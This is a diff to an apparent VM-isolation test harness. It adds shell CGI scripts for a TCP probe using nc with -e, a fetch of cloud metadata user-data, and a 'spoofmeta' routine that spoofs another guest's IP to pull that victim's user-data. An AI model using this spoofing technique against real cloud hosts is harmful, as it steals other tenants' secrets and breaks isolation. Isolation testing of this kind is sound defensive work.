@@ -153,6 +153,18 @@ ping -i 0.05 $ARG > /tmp/ping.log 2>&1 < /dev/null &
 echo $! > /tmp/ping.pid; echo ok\n""",
     "pingstop": _CGI_HEAD + """kill -INT $(cat /tmp/ping.pid) 2>/dev/null; rm -f /tmp/ping.pid
 sleep 0.5; cat /tmp/ping.log\n""",
+    # TCP connect to "<ip> <port>": open, refused (a RST came back) or closed (nothing came back)
+    "tcp": _CGI_HEAD + """set -- $ARG
+ERR=$(timeout 5 nc -w 2 "$1" "$2" -e /bin/true </dev/null 2>&1 >/dev/null) && echo open && exit
+case "$ERR" in *refused*) echo refused ;; *) echo closed ;; esac\n""",
+    "userdata": _CGI_HEAD + """timeout 5 wget -q -O - http://169.254.169.254/latest/user-data 2>/dev/null \\
+  || echo fail\n""",
+    # "<victim ip> <gateway>": ask the metadata service for user-data from another guest's address
+    "spoofmeta": _CGI_HEAD + """set -- $ARG
+ip addr add "$1/32" dev eth0 2>/dev/null
+ip route replace 169.254.169.254 via "$2" src "$1" 2>/dev/null
+timeout 5 wget -q -O - http://169.254.169.254/latest/user-data 2>/dev/null || echo fail
+ip route del 169.254.169.254 2>/dev/null; ip addr del "$1/32" dev eth0 2>/dev/null\n""",
 }
 
 POWER_BUTTON = """#!/bin/sh
